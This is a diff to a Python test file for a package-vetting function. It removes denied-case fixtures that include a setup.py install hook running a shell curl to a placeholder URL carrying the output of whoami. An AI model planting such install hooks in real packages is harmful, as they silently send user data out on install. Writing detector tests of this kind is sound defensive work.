@@ -85,22 +85,6 @@ def test_verdict(files: dict[str, str], expected: Outcome) -> None:
     assert vet_package(files) is expected
 
 
-INSTALL_COMMAND = (
-    "from setuptools import setup\n"
-    "from setuptools.command.install import install\n"
-    "from pre_install import pre_install\n"
-    "class CustomInstall(install):\n"
-    "    def run(self):\n"
-    "        pre_install()\n"
-    "        super().run()\n"
-    "setup(name='evpkg', version='1.0', cmdclass={'install': CustomInstall})\n"
-)
-PRE_INSTALL = (
-    "import subprocess\n"
-    "def pre_install():\n"
-    f"    subprocess.run('curl -s {URL} -d \"$(whoami)\"', shell=True)\n"
-    "if __name__ == '__main__':\n    pre_install()\n"
-)
 LOADER = "import os, sys\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\n"
 GIT_VERSION = (
     "import subprocess\n"
@@ -111,19 +95,6 @@ GIT_VERSION = (
     "        return '0.0.0'\n"
     "    return out.decode().strip().lstrip('v')\n"
 )
-
-SETUP_DENIED: dict[str, dict[str, str]] = {
-    "setup-imports-a-module-whose-install-command-calls-a-third": {
-        "setup.py": LOADER + "import _setup_impl\n",
-        "_setup_impl.py": INSTALL_COMMAND,
-        "pre_install.py": PRE_INSTALL,
-    },
-    "setup-imports-a-module-that-imports-a-dropper-run-on-import": {
-        "setup.py": "import _build\nfrom setuptools import setup\nsetup(name='evpkg')\n",
-        "_build.py": "from pre_install import pre_install\npre_install()\n",
-        "pre_install.py": PRE_INSTALL,
-    },
-}
 
 SETUP_ALLOWED: dict[str, dict[str, str]] = {
     "setup-imports-a-build-module-that-reads-the-git-version": {
@@ -175,7 +146,7 @@ SETUP_ALLOWED |= {
 }
 
 
-@pytest.mark.parametrize(("files", "expected"), verdict_cases(SETUP_DENIED, {}, SETUP_ALLOWED))
+@pytest.mark.parametrize(("files", "expected"), verdict_cases({}, {}, SETUP_ALLOWED))
 def test_setup_helpers(files: dict[str, str], expected: Outcome) -> None:
     assert vet_package(files) is expected
 
